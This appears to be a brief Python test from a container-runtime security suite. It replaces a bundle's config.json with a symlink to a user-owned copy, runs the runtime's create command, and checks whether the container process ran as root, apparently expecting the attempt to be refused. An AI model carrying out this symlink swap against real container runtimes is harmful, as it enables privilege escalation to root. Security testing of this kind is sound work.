"""config.json is a link to a file that another user may change at any time."""

import os

from bypass import refused

SOURCE = "idea"
WAY = "state"
STOPPED = refused("bundle")


def attack(t):
    t.lay("id -u")
    t.write("/home/config.json", t.read(t.bundle + "/config.json"))
    os.unlink(t.bundle + "/config.json")
    os.chown("/home/config.json", 1000, 1000)
    os.symlink("/home/config.json", t.bundle + "/config.json")
    t.create_by("create", "--bundle", t.bundle, "--pid-file", t.pid_file, t.id)
    t.start()
    return t.ended().strip() == "0" and "uid 0"
